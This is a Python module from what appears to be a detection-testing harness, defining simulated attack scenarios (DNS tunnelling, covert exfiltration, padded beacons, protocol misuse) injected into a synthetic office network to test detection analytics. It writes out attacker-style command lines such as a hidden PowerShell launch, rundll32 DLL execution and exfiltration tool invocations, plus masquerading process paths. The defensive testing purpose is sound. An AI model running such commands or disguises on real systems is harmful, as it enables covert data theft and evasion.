"""The attack scenarios of the default suite. Each is the office background plus a family of
malicious actors, with the family's difficulty knobs as parameters.

Scenarios and their actors (expected analytics in brackets; the generated catalogue,
``docs/catalogue.md``, lists every knob):

* ``dns-tunnels``: iodine (Base32, NULL, raw socket to an outside resolver), dnscat2 (hex, TXT,
  resolver API), dns2tcp (Base64, TXT, raw socket), DET (hex, A, resolver API) [AN1225].
* ``dns-exfil-evasive``: low-and-slow dnscat2-style exfiltration; low-entropy dictionary-word
  encoding [AN1225].
* ``quiet-process-exfil``: Notepad over HTTPS, rundll32 over DNS, rundll32 over a custom TCP
  port, each after reading documents [AN0988, AN1225, AN0144 / AN0030].
* ``staging-and-beacons``: 7-Zip staging then curl upload; HTTP beacon with constant padding;
  HTTPS beacon with random padding [AN0988, AN0144, AN0030, AN1225].
* ``custom-port-exfil``: raw TCP exfil on 4444, raw UDP exfil on 9001, SMB to an outside share
  [AN0030, AN1225].
* ``protocol-anomalies``: plain HTTP on 443, TLS on 53, DNS on 5353, extraneous packets, a
  first-seen process with an encoded command line [AN1962, AN1225].
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import Any, ClassVar

from harness.errors import InvalidParameterError
from harness.events import NS_PER_S, Transport
from scenarios import malicious as mal
from scenarios.encodings import TunnelEncoding
from scenarios.malicious import Disguise
from scenarios.office import AttackScenario, OfficeParams
from scenarios.world import Host, World

__all__ = [
    "CustomPortExfil",
    "DnsExfilEvasive",
    "DnsTunnels",
    "ProtocolAnomalies",
    "QuietProcessExfil",
    "StagingAndBeacons",
]


def _check(name: str, value: float, low: float, high: float) -> None:
    if not low <= value <= high:
        raise InvalidParameterError(name, value, f"a number in [{low}, {high}]")


def _temp_tool(host: Host, name: str, args: str = "") -> Disguise:
    image = rf"C:\Users\{host.user}\AppData\Local\Temp\{name}"
    return Disguise(image=image, command_line=f"{image} {args}".strip())


# -- DNS tunnels -------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True, kw_only=True)
class DnsTunnelParams(OfficeParams):
    #: Payload each tunnel moves, bytes.
    total_bytes: int = 200_000
    #: Query rate of each tunnel, queries per second.
    queries_per_s: float = 5.0
    #: Fractional jitter of the gap between queries.
    jitter: float = 0.5
    #: iodine keep-alive interval, seconds (iodine pings every 4 s when idle).
    ping_interval_s: float = 4.0

    def __post_init__(self) -> None:
        OfficeParams.__post_init__(self)
        _check("total_bytes", self.total_bytes, 1, 1e9)
        _check("queries_per_s", self.queries_per_s, 1e-4, 1e4)
        _check("jitter", self.jitter, 0, 0.99)
        _check("ping_interval_s", self.ping_interval_s, 0, 3600)


class DnsTunnels(AttackScenario):
    id: ClassVar[str] = "dns-tunnels"
    description: ClassVar[str] = "DNS tunnels in the styles of iodine, dnscat2, dns2tcp and DET"
    Params: ClassVar[type[Any]] = DnsTunnelParams

    def attack(self, world: World, rng: random.Random, params: Any) -> None:
        hosts = rng.sample(world.env.workstations, 4)
        common = {
            "total_bytes": params.total_bytes,
            "queries_per_s": params.queries_per_s,
            "jitter": params.jitter,
        }
        mal.dns_tunnel(
            world,
            rng,
            actor_id="iodine-tunnel",
            description="iodine-style tunnel: Base32 names, NULL records, pings, raw socket "
            "straight to an outside resolver",
            host=hosts[0],
            start_ns=self.attack_time(world, rng),
            who=_temp_tool(hosts[0], "iodine.exe", "-f -r t1.tunnel-a.example"),
            encoding=TunnelEncoding.IODINE_BASE32,
            domain="t1.tunnel-a.example",
            via_api=False,
            direct_resolver="198.51.100.53",
            ping_interval_s=params.ping_interval_s,
            **common,
        )
        mal.dns_tunnel(
            world,
            rng,
            actor_id="dnscat2-tunnel",
            description="dnscat2-style C2: hex names, TXT records, through the resolver API",
            host=hosts[1],
            start_ns=self.attack_time(world, rng),
            who=Disguise(
                image=r"C:\ProgramData\Intel\igfxsvc.exe",
                command_line=r"C:\ProgramData\Intel\igfxsvc.exe --dns "
                "domain=c2.example-cdn.example",
            ),
            encoding=TunnelEncoding.DNSCAT2_HEX,
            domain="c2.example-cdn.example",
            qtype="TXT",
            **common,
        )
        mal.dns_tunnel(
            world,
            rng,
            actor_id="dns2tcp-tunnel",
            description="dns2tcp-style tunnel: Base64 names, TXT records, raw socket to the "
            "internal resolver",
            host=hosts[2],
            start_ns=self.attack_time(world, rng),
            who=_temp_tool(hosts[2], "dns2tcpc.exe", "-z dl.tcp-over.example -l 8080"),
            encoding=TunnelEncoding.DNS2TCP_BASE64,
            domain="dl.tcp-over.example",
            via_api=False,
            **common,
        )
        mal.dns_tunnel(
            world,
            rng,
            actor_id="det-exfil",
            description="DET-style exfiltration: hex in full 63-character labels, A queries, "
            "after reading documents",
            host=hosts[3],
            start_ns=self.attack_time(world, rng),
            who=Disguise(
                image=r"C:\Python311\python.exe",
                command_line=r"python.exe det.py -c config.json -p dns -f secrets.zip",
            ),
            encoding=TunnelEncoding.DET_HEX,
            domain="x.exfil-det.example",
            files_read=30,
            **common,
        )


# -- evasive DNS exfiltration ------------------------------------------------------------------


@dataclass(frozen=True, slots=True, kw_only=True)
class DnsEvasiveParams(OfficeParams):
    #: Payload each actor moves, bytes.
    total_bytes: int = 20_000
    #: Query rate of the low-and-slow actor, queries per second.
    slow_queries_per_s: float = 1 / 30
    #: Query rate of the low-entropy actor, queries per second.
    words_queries_per_s: float = 0.5
    jitter: float = 0.5

    def __post_init__(self) -> None:
        OfficeParams.__post_init__(self)
        _check("total_bytes", self.total_bytes, 1, 1e9)
        _check("slow_queries_per_s", self.slow_queries_per_s, 1e-5, 1e3)
        _check("words_queries_per_s", self.words_queries_per_s, 1e-5, 1e3)
        _check("jitter", self.jitter, 0, 0.99)


class DnsExfilEvasive(AttackScenario):
    id: ClassVar[str] = "dns-exfil-evasive"
    description: ClassVar[str] = (
        "Low-and-slow DNS exfiltration and a low-entropy word encoding built to evade lexical rules"
    )
    Params: ClassVar[type[Any]] = DnsEvasiveParams

    def attack(self, world: World, rng: random.Random, params: Any) -> None:
        hosts = rng.sample(world.env.workstations, 2)
        mal.dns_tunnel(
            world,
            rng,
            actor_id="low-and-slow-dns",
            description="dnscat2-style hex exfiltration at one query every ~30 s, resolver API",
            host=hosts[0],
            start_ns=self.attack_time(world, rng),
            who=Disguise(
                image=r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                command_line="powershell.exe -nop -w hidden -f C:\\Users\\Public\\s.ps1",
                signer="Microsoft Windows",
            ),
            encoding=TunnelEncoding.DNSCAT2_HEX,
            domain="s.slowdrip.example",
            qtype="TXT",
            total_bytes=params.total_bytes,
            queries_per_s=params.slow_queries_per_s,
            jitter=params.jitter,
        )
        mal.dns_tunnel(
            world,
            rng,
            actor_id="low-entropy-dns",
            description="Exfiltration in dictionary words (one word per byte) under A queries",
            host=hosts[1],
            start_ns=self.attack_time(world, rng),
            who=_temp_tool(hosts[1], "OfficeClickToRunHelper.exe"),
            encoding=TunnelEncoding.WORDS,
            domain="news.wordfeed.example",
            text_payload=True,
            total_bytes=params.total_bytes,
            queries_per_s=params.words_queries_per_s,
            jitter=params.jitter,
        )


# -- quiet processes after file access ---------------------------------------------------------


@dataclass(frozen=True, slots=True, kw_only=True)
class QuietParams(OfficeParams):
    total_bytes: int = 8_000_000
    #: Documents each actor reads first; 0 removes the precursor (AN0988 is then not expected).
    files_read: int = 120
    #: Custom port of the TCP variant.
    port: int = 8081
    jitter: float = 0.3

    def __post_init__(self) -> None:
        OfficeParams.__post_init__(self)
        _check("total_bytes", self.total_bytes, 1, 1e10)
        _check("files_read", self.files_read, 0, 1e6)
        _check("port", self.port, 1, 65_535)
        _check("jitter", self.jitter, 0, 0.99)


class QuietProcessExfil(AttackScenario):
    id: ClassVar[str] = "quiet-process-exfil"
    description: ClassVar[str] = (
        "Normally quiet processes (notepad, rundll32) send data after reading documents"
    )
    Params: ClassVar[type[Any]] = QuietParams

    def attack(self, world: World, rng: random.Random, params: Any) -> None:
        hosts = rng.sample(world.env.workstations, 3)
        notepad = Disguise(
            image=r"C:\Windows\System32\notepad.exe",
            command_line="notepad.exe",
            signer="Microsoft Windows",
        )
        rundll = Disguise(
            image=r"C:\Windows\System32\rundll32.exe",
            command_line=r"rundll32.exe C:\Users\Public\lib.dll,Start",
            signer="Microsoft Windows",
        )
        variants = (
            ("notepad-https", hosts[0], notepad, "https", 443),
            ("rundll32-dns", hosts[1], rundll, "dns", 53),
            ("rundll32-tcp", hosts[2], rundll, "tcp", params.port),
        )
        for actor_id, host, who, channel, port in variants:
            mal.quiet_process_exfil(
                world,
                rng,
                actor_id=actor_id,
                description=f"{who.command_line.split()[0]} reads documents, then sends them "
                f"over {channel.upper()}" + (f" port {port}" if channel == "tcp" else ""),
                host=host,
                start_ns=self.attack_time(world, rng),
                who=who,
                channel=channel,
                port=port,
                files_read=params.files_read,
                jitter=params.jitter,
                total_bytes=params.total_bytes if channel != "dns" else params.total_bytes // 40,
            )


# -- staging and beacons -----------------------------------------------------------------------


@dataclass(frozen=True, slots=True, kw_only=True)
class StagingBeaconParams(OfficeParams):
    archive_bytes: int = 60_000_000
    beacon_interval_s: float = 60.0
    beacon_jitter: float = 0.2
    #: Padding added to each beacon request, bytes.
    padding_bytes: int = 20_000
    beacon_duration_s: float = 6 * 3600

    def __post_init__(self) -> None:
        OfficeParams.__post_init__(self)
        _check("archive_bytes", self.archive_bytes, 1, 1e11)
        _check("beacon_interval_s", self.beacon_interval_s, 0.1, 86_400)
        _check("beacon_jitter", self.beacon_jitter, 0, 0.99)
        _check("padding_bytes", self.padding_bytes, 0, 1e8)
        _check("beacon_duration_s", self.beacon_duration_s, 1, 86_400)


class StagingAndBeacons(AttackScenario):
    id: ClassVar[str] = "staging-and-beacons"
    description: ClassVar[str] = (
        "Archive staging then upload, and C2 beacons padded with junk data (constant and random)"
    )
    Params: ClassVar[type[Any]] = StagingBeaconParams

    def attack(self, world: World, rng: random.Random, params: Any) -> None:
        hosts = rng.sample(world.env.workstations, 3)
        mal.archive_then_upload(
            world,
            rng,
            actor_id="archive-staging",
            host=hosts[0],
            start_ns=self.attack_time(world, rng),
            total_bytes=params.archive_bytes,
        )
        beacon = {
            "interval_s": params.beacon_interval_s,
            "jitter": params.beacon_jitter,
            "padding_bytes": params.padding_bytes,
            "duration_s": params.beacon_duration_s,
        }
        mal.padded_beacon(
            world,
            rng,
            actor_id="beacon-constant-padding",
            description="HTTP beacon with constant junk padding on port 80",
            host=hosts[1],
            start_ns=self.attack_time(world, rng),
            who=Disguise(
                image=r"C:\ProgramData\Microsoft\Network\netsvc.exe",
                command_line=r"C:\ProgramData\Microsoft\Network\netsvc.exe -k",
            ),
            **beacon,
        )
        mal.padded_beacon(
            world,
            rng,
            actor_id="beacon-random-padding",
            description="HTTPS beacon with random-length junk padding on port 443",
            host=hosts[2],
            start_ns=self.attack_time(world, rng),
            who=_temp_tool(hosts[2], "msedgeupdate.exe", "/svc"),
            random_padding=True,
            tls=True,
            port=443,
            domain="api.weather-widget.example",
            **beacon,
        )


# -- custom ports ------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True, kw_only=True)
class CustomPortParams(OfficeParams):
    total_bytes: int = 80_000_000
    chunk_bytes: int = 4_000_000
    interval_s: float = 10.0
    tcp_port: int = 4444
    udp_port: int = 9001

    def __post_init__(self) -> None:
        OfficeParams.__post_init__(self)
        _check("total_bytes", self.total_bytes, 1, 1e11)
        _check("chunk_bytes", self.chunk_bytes, 1, 1e10)
        _check("interval_s", self.interval_s, 0.01, 86_400)
        _check("tcp_port", self.tcp_port, 1, 65_535)
        _check("udp_port", self.udp_port, 1, 65_535)


class CustomPortExfil(AttackScenario):
    id: ClassVar[str] = "custom-port-exfil"
    description: ClassVar[str] = (
        "Raw TCP and UDP exfiltration on custom ports, and SMB to an outside share"
    )
    Params: ClassVar[type[Any]] = CustomPortParams

    def attack(self, world: World, rng: random.Random, params: Any) -> None:
        hosts = rng.sample(world.env.workstations, 3)
        common = {
            "total_bytes": params.total_bytes,
            "chunk_bytes": params.chunk_bytes,
            "interval_s": params.interval_s,
        }
        mal.raw_exfil(
            world,
            rng,
            actor_id="raw-tcp-exfil",
            description=f"Raw TCP exfiltration to port {params.tcp_port}",
            host=hosts[0],
            start_ns=self.attack_time(world, rng),
            who=_temp_tool(hosts[0], "svchost.exe", "-k netsvcs"),
            transport=Transport.TCP,
            port=params.tcp_port,
            **common,
        )
        mal.raw_exfil(
            world,
            rng,
            actor_id="raw-udp-exfil",
            description=f"Raw UDP exfiltration to port {params.udp_port}",
            host=hosts[1],
            start_ns=self.attack_time(world, rng),
            who=Disguise(
                image=r"C:\ProgramData\Oracle\Java\javaw.exe",
                command_line=r"javaw.exe -jar C:\ProgramData\Oracle\Java\upd.jar",
            ),
            transport=Transport.UDP,
            port=params.udp_port,
            **common,
        )
        mal.external_smb(
            world,
            rng,
            actor_id="external-smb",
            host=hosts[2],
            start_ns=self.attack_time(world, rng),
            total_bytes=params.total_bytes // 2,
        )


# -- protocol anomalies ------------------------------------------------------------------------


@dataclass(frozen=True, slots=True, kw_only=True)
class AnomalyParams(OfficeParams):
    sessions: int = 40
    interval_s: float = 120.0
    anomaly_count: int = 25

    def __post_init__(self) -> None:
        OfficeParams.__post_init__(self)
        _check("sessions", self.sessions, 1, 1e6)
        _check("interval_s", self.interval_s, 0.01, 86_400)
        _check("anomaly_count", self.anomaly_count, 1, 1e6)


class ProtocolAnomalies(AttackScenario):
    id: ClassVar[str] = "protocol-anomalies"
    description: ClassVar[str] = (
        "Protocols on ports that belong to others, extraneous packets, and a first-seen process"
    )
    Params: ClassVar[type[Any]] = AnomalyParams

    def attack(self, world: World, rng: random.Random, params: Any) -> None:
        hosts = rng.sample(world.env.workstations, 5)
        for host, variant, tool in (
            (hosts[0], "http-on-443", "wuauclt64.exe"),
            (hosts[1], "tls-on-53", "dnsproxy.exe"),
            (hosts[2], "dns-on-odd-port", "mdnsresp.exe"),
        ):
            mal.protocol_misuse(
                world,
                rng,
                actor_id=variant,
                host=host,
                start_ns=self.attack_time(world, rng),
                who=_temp_tool(host, tool),
                variant=variant,
                sessions=params.sessions,
                interval_s=params.interval_s,
            )
        mal.extraneous_packets(
            world,
            rng,
            actor_id="extraneous-packets",
            host=hosts[3],
            start_ns=self.attack_time(world, rng),
            count=params.anomaly_count,
        )
        mal.suspicious_first_seen(
            world,
            rng,
            actor_id="first-seen-encoded-cmd",
            host=hosts[4],
            start_ns=self.attack_time(world, rng) + NS_PER_S,
        )
